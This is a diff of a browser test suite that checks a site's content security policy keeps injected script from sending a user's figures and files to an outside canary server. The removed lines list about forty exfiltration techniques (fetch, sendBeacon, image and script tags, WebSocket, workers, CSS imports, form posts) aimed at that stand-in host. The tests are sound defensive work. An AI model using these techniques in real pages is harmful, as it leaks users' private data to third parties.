@@ -2,25 +2,35 @@ import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { chromium, type Page } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { findChromium } from '../../scripts/node/find-chromium.ts';
 import { quiet } from '../../scripts/node/quiet-chromium.ts';
 import { hostsAskedFor } from './adversary-net-log.ts';
-import { type Canary, startCanary } from './canary.ts';
-import { addressOf, closeBrowser, openPage } from './site.ts';
+import { type Call, callFrom, type Canary, type Elsewhere, serveElsewhere, startCanary } from './canary.ts';
+import { addressOf, closeBrowser, openContext, openPage } from './site.ts';
 import { templates } from './templates.ts';
+import {
+  closedAnyway,
+  tryWaysOut,
+  tryWaysOutOfWorkers,
+  waysOut,
+  waysOutOfWorkers,
+  waysUnheard,
+} from './ways-out.ts';
 
 let canary: Canary;
+let call: Call;
 beforeAll(async () => {
   canary = await startCanary();
+  call = await callFrom(await openContext({ bypassCSP: true }), addressOf('/privacy/'));
 });
-afterEach(() => void (canary.heard.length = 0));
 afterAll(async () => {
   await closeBrowser();
   await canary.close();
 });
 
 const secrets = ['13.371', 'Child-4711', 'canary-file'];
+const tellsSecret = (line: string): boolean => secrets.some((secret) => line.includes(secret));
 
 /** Places figures of one's own on the page of comparisons. */
 async function placeOwn(page: Page): Promise<void> {
@@ -55,7 +65,7 @@ const talkative =
 describe('a reader who goes through the site with figures and a file of their own', () => {
   const folder = mkdtempSync(join(tmpdir(), 'net-log-'));
   const asked: string[] = [];
-  let control: Canary;
+  let control: Elsewhere;
 
   /** What hosts a browser asked for while it did something, by its own log. */
   async function hostsOf(act: (page: Page) => Promise<unknown>): Promise<string[]> {
@@ -72,7 +82,7 @@ describe('a reader who goes through the site with figures and a file of their ow
   }
 
   beforeAll(async () => {
-    control = await startCanary({ type: 'text/html', text: talkative });
+    control = await serveElsewhere(talkative);
   });
   afterAll(async () => {
     await control.close();
@@ -89,131 +99,56 @@ describe('a reader who goes through the site with figures and a file of their ow
     });
     expect(hosts).toEqual([new URL(addressOf('/')).host]);
     expect(asked.length).toBeGreaterThan(100);
-    expect(asked.filter((line) => secrets.some((secret) => line.includes(secret)))).toEqual([]);
+    expect(asked.filter(tellsSecret)).toEqual([]);
   });
 
-  it('would be seen to ask: the log shows a page that does', async () => {
-    const hosts = await hostsOf((page) => page.goto(control.url, { waitUntil: 'networkidle' }));
+  it('would be seen to ask and to send: the log shows a page that does, and so do its requests', async () => {
+    const hosts = await hostsOf(async (page) => {
+      await page.goto(control.url, { waitUntil: 'networkidle' });
+      for (const text of secrets) await page.evaluate((body) => fetch('', { method: 'POST', body }), text);
+    });
     expect(hosts).toEqual([new URL(control.url).host, 'picture.example'].toSorted());
+    expect(asked.filter(tellsSecret)).toHaveLength(secrets.length);
   });
 });
-
-/** Ways out that someone might try who got text of theirs to run in a page. CANARY is the address that must hear nothing. */
-const waysOut = [
-  'fetch(CANARY)',
-  'fetch(CANARY, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
-  'send(new XMLHttpRequest(), "GET", CANARY)',
-  'navigator.sendBeacon(CANARY, "x")',
-  'new Image().src = CANARY',
-  'new Audio(CANARY).load()',
-  'put("script", { src: CANARY })',
-  'put("script", { src: CANARY, type: "module" })',
-  'put("link", { rel: "stylesheet", href: CANARY })',
-  'put("link", { rel: "prefetch", href: CANARY })',
-  'put("link", { rel: "preload", as: "fetch", href: CANARY })',
-  'put("link", { rel: "modulepreload", href: CANARY })',
-  'put("link", { rel: "icon", href: CANARY })',
-  'put("link", { rel: "manifest", href: CANARY })',
-  'put("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [CANARY] }] }) })',
-  'new WebSocket(CANARY.replace("http", "ws"))',
-  'new EventSource(CANARY)',
-  'new WebTransport(CANARY.replace("http", "https"))',
-  'put("form", { action: CANARY, method: "post" }).submit()',
-  'put("a", { href: "#x", ping: CANARY }).click()',
-  'put("iframe", { src: CANARY })',
-  'put("iframe", { srcdoc: "<img src=" + CANARY + ">" })',
-  'put("object", { data: CANARY })',
-  'put("embed", { src: CANARY })',
-  'put("video", { poster: CANARY, src: CANARY })',
-  'put("style", { textContent: "@import url(" + CANARY + ")" })',
-  'new FontFace("x", "url(" + CANARY + ")").load()',
-  'new Worker(CANARY)',
-  'new SharedWorker(CANARY)',
-  'navigator.serviceWorker.register(CANARY)',
-  'import(CANARY)',
-  'CSS.paintWorklet?.addModule(CANARY)',
-  'new AudioContext().audioWorklet.addModule(CANARY)',
-  'document.body.setAttribute("background", CANARY)',
-] as const;
-
-/** The same in a worker. */
-const waysOutOfWorkers = [
-  'fetch(CANARY)',
-  'send(new XMLHttpRequest(), "GET", CANARY)',
-  'new WebSocket(CANARY.replace("http", "ws"))',
-  'new EventSource(CANARY)',
-  'new WebTransport(CANARY.replace("http", "https"))',
-  'importScripts(CANARY)',
-  'import(CANARY)',
-  'new Worker(CANARY)',
-  'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(CANARY) + ")"])))',
-  'new FontFace("x", "url(" + CANARY + ")").load()',
-] as const;
 
 describe('text of someone else that runs in a page of ours', () => {
   it('gets nothing out by any of the usual ways', async () => {
     const { page, close } = await openPage('/compare/', { expected: /./ });
-    for (const way of waysOut) await attempt(page, way);
-    await page.waitForTimeout(500);
-    expect(canary.heard).toEqual([]);
+    await tryWaysOut(page, canary.url);
+    expect(await canary.heard(call)).toEqual([]);
     await close();
   });
 
   it('gets nothing out by a worker of its own', async () => {
     const { page, close } = await openPage('/query/', { expected: /./ });
-    for (const way of waysOutOfWorkers) {
-      await page.evaluate(
-        async ([code, url]) => {
-          const text = `const CANARY = ${JSON.stringify(url)};
-            const send = (request, method, to) => { request.open(method, to); request.send(); };
-            (async () => ${code})().catch(() => {}).finally(() => setTimeout(() => postMessage(0), 100));`;
-          const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
-          await new Promise((done) => {
-            worker.addEventListener('message', done);
-            worker.addEventListener('error', done);
-          });
-        },
-        [way, `${canary.url}${encodeURIComponent(way)}`] as const,
-      );
-    }
-    expect(canary.heard).toEqual([]);
+    await tryWaysOutOfWorkers(page, canary.url);
+    expect(await canary.heard(call)).toEqual([]);
     await close();
   });
+
+  it.each([
+    { from: 'the page', path: '/compare/', ways: waysOut, attempt: tryWaysOut },
+    { from: 'a worker', path: '/query/', ways: waysOutOfWorkers, attempt: tryWaysOutOfWorkers },
+  ])(
+    'would get out of $from by each of them, were it not for the policy',
+    async ({ path, ways, attempt }) => {
+      const { page, close } = await openPage(path, { expected: /./, bypassCSP: true });
+      await attempt(page, canary.url);
+      const unheard = waysUnheard(ways, await canary.heard(call));
+      expect(unheard).toEqual(ways.filter((way) => closedAnyway.includes(way)));
+      await close();
+    },
+  );
 
   it('could still leave for another page: that no policy in a page stops, so nothing of someone else may run', async () => {
     const { page, close } = await openPage('/compare/', { expected: /./ });
     await page.evaluate((url) => void (location.href = `${url}left`), canary.url);
     await page.waitForURL(`${canary.url}left`);
-    expect(canary.heard).toContain('GET /left');
+    expect(await canary.heard(call)).toContain('GET /left');
     await close();
   });
 });
-
-/** Tries a way out in a page and gives it time to come about. */
-async function attempt(page: Page, way: string): Promise<void> {
-  await page
-    .evaluate(
-      async ([code, url]) => {
-        const put = (name: string, properties: Record<string, string>): HTMLElement => {
-          const element = Object.assign(document.createElement(name), properties);
-          for (const [key, value] of Object.entries(properties))
-            if (key !== 'textContent') element.setAttribute(key, value);
-          return document.body.appendChild(element);
-        };
-        const send = (request: XMLHttpRequest, method: string, to: string): void => {
-          request.open(method, to);
-          request.send();
-        };
-        const run = new Function('CANARY', 'put', 'send', `return (${code})`) as (
-          ...given: unknown[]
-        ) => unknown;
-        const result = run(`${url}${encodeURIComponent(code)}`, put, send);
-        await Promise.race([result, new Promise((done) => setTimeout(done, 30))]);
-      },
-      [way, canary.url] as const,
-    )
-    .catch(() => {}); // a refused attempt may throw
-}
 
 describe('text of someone else', () => {
   it('does not run in a page of ours: not as a script, a handler, an address or a text that is run', async () => {
